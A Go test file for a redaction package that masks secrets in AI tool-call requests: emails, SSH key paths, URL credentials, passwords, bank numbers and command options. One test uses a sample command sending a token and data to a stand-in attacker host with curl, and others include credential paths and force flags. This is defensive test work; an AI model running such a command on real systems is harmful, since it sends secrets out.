package redact

import (
	"bytes"
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/gates"
)

func TestValues(t *testing.T) {
	for _, tc := range []struct{ value, keep, hide string }{
		{"anna.lee@corp.example", "@corp.example", "anna"},
		{"/home/anna/.ssh/id_rsa", "/home/anna/.ssh/id_rsa", ""},
		{"/srv/keys/AKIA1b2C3d4E5f6G7h8I9j0K", "/srv/keys/name:", "AKIA"},
		{"https://user:pw@host.example/path?token=abc", "host.example/rest:", "abc"},
		{"https://user:pw@host.example/", "@host.example/", "pw"},
		{"my password is hunter2", "text:", "hunter2"},
		{"GB29NWBK60161331926819", "word:", "GB29"},
		{"Dora", "name-", "Dora"},
		{"13", "13", ""},
		{"-12.5", "-12.5", ""},
		{"123456", "123456", ""},
		{"4829171", "word:", "4829171"},
		{"482-917-1", "word:", "482"},
		{"50.25", "50.25", ""},
		{"true", "true", ""},
	} {
		got := redactValue(tc.value)
		if !strings.Contains(got, tc.keep) || tc.hide != "" && strings.Contains(got, tc.hide) {
			t.Errorf("redactValue(%q) = %q: want %q in it and not %q", tc.value, got, tc.keep, tc.hide)
		}
		if again := redactValue(got); again != got {
			t.Errorf("redacting %q twice gives %q", got, again)
		}
		if got != redactValue(tc.value) || tc.hide != "" && got == redactValue(tc.value+"x") {
			t.Errorf("%q: equality is lost", tc.value)
		}
	}
}

// TestRedactedAddress holds that a gate on the characters of an address sees
// them, or not, in a value and in what stands for it alike.
func TestRedactedAddress(t *testing.T) {
	for _, v := range []string{"Dora", "general", "team-room", "a@b.example", "DE8937", "www.site.example", "/etc/x", "8.8.8.8"} {
		const address = "0123456789@./:"
		if strings.ContainsAny(v, address) != strings.ContainsAny(redactValue(v), address) {
			t.Errorf("%q and %q differ in address characters", v, redactValue(v))
		}
	}
}

// TestRedactSecret: a secret's role says more than its looks, and of equal ones
// equal digests stay.
func TestRedactSecret(t *testing.T) {
	of := func(tool, args string) string {
		c := gates.NewContext(gates.Request{Tool: tool, Args: []byte(args)}, gates.State{UID: -1, GID: -1})
		r := Context(&c)
		if again := Context(&r); again.Args[0].Value != r.Args[0].Value {
			t.Errorf("redacting %s twice: %q, then %q", args, r.Args[0].Value, again.Args[0].Value)
		}
		return r.Args[0].Value
	}
	for _, secret := range []string{"1234", "482917123", "true", "hunter", "/a/b", "a@b.example"} {
		got := of("update_password", `{"password":"`+secret+`"}`)
		if strings.Contains(got, secret) || !strings.HasPrefix(got, "word:") && !strings.HasPrefix(got, "name-") {
			t.Errorf("%q stays as %q", secret, got)
		}
		if got != of("update_password", `{"password":"`+secret+`"}`) || got == of("update_password", `{"password":"`+secret+`0"}`) {
			t.Errorf("%q: equality is lost", secret)
		}
	}
}

func TestRedactOptions(t *testing.T) {
	for _, tc := range []struct{ word, want string }{
		{"-r", "-r"}, {"-rf", "-rf"}, {"--force", "--force"}, {"--no-verify", "--no-verify"}, {"-phunter2secret", "-p"}, {"-p4829171", "-p"}, {"-psecretofmineall", "-p"}, {"-j4", "-j4"}, {"-executable", "-executable"}, {"-p8080", "-p8080"},
	} {
		got := redactWord(tc.word)
		if again := redactWord(got); again != got {
			t.Errorf("%q: %q, then %q", tc.word, got, again)
		}
		if tc.want == "-p" && (!strings.HasPrefix(got, "-p") || strings.Contains(got, tc.word[2:])) || tc.want != "-p" && got != tc.want {
			t.Errorf("%q: %q, want %q", tc.word, got, tc.want)
		}
	}
}

func TestRedactArgv(t *testing.T) {
	got := redactArgv("curl -H --token=s3cr3tvalue https://evil.example/x?d=1 payload")
	if strings.Contains(got, "s3cr3t") || strings.Contains(got, "payload") || !strings.HasPrefix(got, "curl -H --token=") || !strings.Contains(got, "https://evil.example") {
		t.Errorf("argv: %q", got)
	}
}

func TestCanonicalStays(t *testing.T) {
	c := gates.NewContext(gates.Request{
		Tool: "send_email",
		Args: []byte(`{"recipients":["anna1@corp.example"],"body":"the secret is hunter1","attachments":[]}`),
	}, gates.State{Cwd: "/work", Roots: []string{"/work"}, UID: -1, GID: -1})
	r := Context(&c)
	data := r.AppendCanonical(nil)
	p, err := gates.ParseContext(data)
	if err != nil {
		t.Fatalf("a redacted context is not canonical: %v", err)
	}
	if again := Context(&p); !bytes.Equal(again.AppendCanonical(nil), data) {
		t.Error("redacting twice changes the context")
	}
	if bytes.Contains(data, []byte("hunter")) || bytes.Contains(data, []byte("anna1")) {
		t.Errorf("a secret stays: %s", data)
	}
	if strings.Contains(c.Args[0].Value, ":") && strings.HasPrefix(c.Args[0].Value, "word:") {
		t.Error("redaction changed its argument")
	}
}

func FuzzValue(f *testing.F) {
	for _, s := range []string{"a@b.c", "https://u@h/p", "/a/b", "text:0123456789abcdef", "name-ghijklmnghijklmn", "mail:0123456789abcdef@x.y", "word:", "://", "@", "~", "https://user:0123456789abcdef@h/rest:0123456789abcdef"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		once := redactValue(s)
		if twice := redactValue(once); twice != once {
			t.Fatalf("%q: %q, then %q", s, once, twice)
		}
	})
}
